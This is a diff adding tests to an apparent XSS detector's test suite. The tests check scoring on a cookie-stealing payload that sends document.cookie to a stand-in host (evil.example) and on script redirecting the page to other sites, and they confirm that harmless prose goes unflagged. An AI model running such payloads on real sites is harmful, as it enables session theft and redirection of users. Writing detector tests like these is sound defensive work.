@@ -306,4 +306,23 @@ describe('xss detector', () => {
     ])
       assert.equal(scores(value).get('xss.string-built'), undefined, value);
   });
+
+  test('the cookie joined into an address at the end of a value', () => {
+    assert.equal(strongest("x=new Image();x.src='//evil.example/?c='+document.cookie"), 5);
+    // Prose that names the property.
+    assert.ok(strongest('How do I read document.cookie') < 5);
+    assert.ok(strongest('see `document.cookie`') < 5);
+  });
+
+  test('script that navigates to another site counts from paranoia 2', () => {
+    const found = (value: string) =>
+      xssDetector
+        .detect(viewsOf(value), 'query', 'query.q')
+        .filter((h) => h.rule.startsWith('xss.location-assign'))
+        .map((h) => `${h.rule}@${h.paranoia}`);
+    assert.deepEqual(found("top.location='//evil.example'"), ['xss.location-assign.url@2']);
+    assert.deepEqual(found('location="http://html5sec.org";'), ['xss.location-assign.url@2']);
+    assert.deepEqual(found('my location = "Berlin"'), []);
+    assert.deepEqual(found('location.href = "/login"'), []);
+  });
 });
